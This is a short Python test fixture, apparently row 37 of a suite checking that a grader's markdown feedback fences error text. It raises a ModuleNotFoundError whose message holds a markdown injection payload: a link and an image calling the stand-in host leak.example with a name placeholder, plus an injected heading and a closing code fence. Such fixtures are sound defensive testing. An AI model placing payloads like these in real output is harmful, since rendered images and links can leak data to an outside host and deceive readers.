"""Row 37 (child text shown as the grader's): the import fails with a ModuleNotFoundError whose
module name carries markdown (a link, an image, then a heading and a closing fence on new lines).
Expected to lose: the import error is shown fenced, first line only."""

ROW = 37
# WIN on current code would be: markdown outside a fence in feedback.md.
EXPECT = {"zero": "all", "no_markdown_injection": True}

raise ModuleNotFoundError("No module named '[x](http://leak.example/__NAME__) "
                          "![p](http://leak.example/__NAME__.png)'\n# Injected heading\n```\n"
                          "<b>bold</b>")
